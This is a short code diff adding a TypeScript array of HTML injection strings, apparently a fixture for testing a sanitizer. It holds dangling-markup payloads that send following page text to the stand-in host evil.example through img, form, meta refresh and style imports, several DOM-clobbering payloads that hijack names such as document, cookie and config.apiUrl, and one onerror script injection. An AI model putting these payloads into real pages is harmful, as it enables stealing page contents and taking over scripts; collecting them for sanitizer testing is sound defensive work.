@@ -1,0 +1,22 @@
+/** What leaks the text behind it, or takes the names that scripts ask the page for. */
+export const markup: readonly string[] = [
+  "<img src='//evil.example/?",
+  '<img src="//evil.example/?',
+  "<a href='//evil.example/?",
+  "<textarea name=leak>",
+  "<form action='//evil.example/?",
+  "<button formaction='//evil.example/?",
+  "<style>@import'//evil.example/?",
+  "<meta http-equiv=refresh content='0;//evil.example/?",
+  "<table background='//evil.example/?",
+  "<option value='//evil.example/?",
+  "<img name=getElementById>",
+  "<form name=body><input name=appendChild></form>",
+  "<a id=config><a id=config name=apiUrl href=//evil.example/>",
+  "<form id=document><input name=cookie></form>",
+  "<img id=currentScript><a id=defaultView href=x>x</a>",
+  "<iframe name=unlayer srcdoc='<a id=createEditor href=x></a>'></iframe>",
+  "<form><input name=attributes></form><img src=x onerror=alert(1)>",
+  "<form><input name=parentNode><input name=nodeName></form>",
+  "<output id=root>x</output><div id=root>y</div>",
+];
